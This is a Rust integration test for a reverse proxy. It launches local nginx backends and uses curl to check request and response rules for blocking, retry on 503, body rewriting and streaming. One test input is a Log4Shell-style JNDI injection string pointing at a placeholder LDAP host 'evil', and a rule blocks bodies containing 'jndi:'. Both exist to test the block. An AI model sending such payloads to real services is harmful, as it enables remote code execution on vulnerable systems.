//! Rules that read, write, stream and send again, in front of nginx, asked by curl.

use crate::kit::{Proxy, Running, folder, text};
use crate::origins::{free_port, program};
use std::fmt::Write as _;
use std::fs;
use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;

const PAGE: &str =
    "<html><body>a cat, another cat, and a third cat: enough of them to be worth packing</body></html>\n";

/// nginx with what stands in `server`, in this folder.
fn nginx(here: &Path, name: &str, address: SocketAddr, server: &str) -> Option<Running> {
    let nginx = program("nginx")?;
    let folder = here.display();
    let mut conf = format!(
        "daemon off;\nmaster_process off;\npid {folder}/logs/{name}.pid;\nerror_log stderr notice;\nevents {{}}\nhttp {{\n \
         types {{ text/html html; }}\n access_log off;\n"
    );
    for (what, short) in
        [("client_body", "b"), ("proxy", "p"), ("fastcgi", "f"), ("uwsgi", "u"), ("scgi", "s")]
    {
        let _written = writeln!(conf, " {what}_temp_path {folder}/logs/{name}-{short};");
    }
    let _written =
        writeln!(conf, " server {{\n listen {address};\n root {folder}/htdocs;\n {server}\n }}\n}}");
    let path = here.join(format!("{name}.conf"));
    fs::write(&path, conf).unwrap();
    let mut command = Command::new(nginx);
    let mut server = Running::spawn(command.arg("-e").arg("stderr").arg("-p").arg(here).arg("-c").arg(path));
    server.hears("getrlimit");
    Some(server)
}

fn curl(proxy: &Proxy, path: &str, arguments: &[&str]) -> Option<String> {
    let url = format!("http://{}{path}", proxy.address);
    let output =
        Command::new(program("curl")?).args(["-s", "-m", "20"]).args(arguments).arg(url).output().unwrap();
    Some(text(&output.stdout))
}

#[test]
fn nginx_that_packs_its_pages_behind_rules_that_work_on_bodies() {
    let here = folder(&[("htdocs/page.html", PAGE), ("logs/.keep", "")]);
    let mut open = Command::new("chmod");
    assert!(open.args(["-R", "a+rX"]).arg(here.path()).status().unwrap().success());
    let (good, busy) = (free_port(), free_port());
    let packs = "gzip on; gzip_min_length 1; gzip_types text/html; location /echo { return 200 taken; }";
    let Some(_good) = nginx(here.path(), "good", good, packs) else { return };
    let Some(_busy) = nginx(here.path(), "busy", busy, "return 503 busy;") else { return };
    let rules = [
        (
            "request",
            "if( string.contains( http.getBody(), \"jndi:\" ) ) http.sendResponse( 403, \"text/plain\", \"blocked\\n\", \"\" );\n\
             if( http.getPath() == \"/stream\" ) {\n\
             \x20  http.stream.startResponse( 200, \"text/plain\" );\n\
             \x20  for( $i = 1; $i <= 3; $i++ ) { http.stream.writeResponse( \"piece \" . $i . \"\\n\" ); connection.sleep( 20 ); }\n\
             \x20  http.stream.finishResponse( \"end\\n\" );\n\
             }\n",
        ),
        (
            "response",
            "if( http.getResponseCode() == 503 ) { request.avoidNode( connection.getNode() ); request.retry(); }\n\
             if( http.getPath() == \"/page.html\" )\n\
             \x20  http.setResponseBody( string.replaceAll( http.getResponseBody(), \"cat\", \"horse\" ) );\n",
        ),
    ];
    let catalog = format!(
        "[virtual_servers.site]\nlisten = \"127.0.0.1:0\"\npool = \"nodes\"\nrequest_rules = \"request\"\n\
         response_rules = \"response\"\n[pools.nodes]\nnodes = [\"{busy}\", \"{good}\"]\n"
    );
    let site = folder(&[
        ("tidegate.toml", &catalog),
        ("rules/request.rts", rules[0].1),
        ("rules/response.rts", rules[1].1),
    ]);
    let proxy = Proxy::start(site.path(), &[]);

    let Some(blocked) = curl(&proxy, "/echo", &["-d", "x=${jndi:ldap://evil}"]) else { return };
    assert_eq!(blocked, "blocked\n");
    assert_eq!(curl(&proxy, "/echo", &["-d", "x=harmless"]).unwrap(), "taken");
    // One half of the requests meets the busy node first; nobody hears of it.
    for _ in 0..6 {
        let page = curl(&proxy, "/page.html", &["-i", "-H", "Accept-Encoding: gzip"]).unwrap();
        assert!(page.starts_with("HTTP/1.1 200 "), "{page}");
        assert!(page.ends_with(&PAGE.replace("cat", "horse")), "{page}");
        let (head, body) = page.split_once("\r\n\r\n").unwrap();
        assert!(!head.contains("Content-Encoding"), "{head}");
        assert!(head.contains(&format!("Content-Length: {}", body.len())), "{head}");
        assert!(head.contains("ETag: W/"), "{head}");
    }
    assert_eq!(curl(&proxy, "/stream", &[]).unwrap(), "piece 1\npiece 2\npiece 3\nend\n");
    assert_eq!(curl(&proxy, "/stream", &["--http1.0"]).unwrap(), "piece 1\npiece 2\npiece 3\nend\n");
    proxy.stop();
}
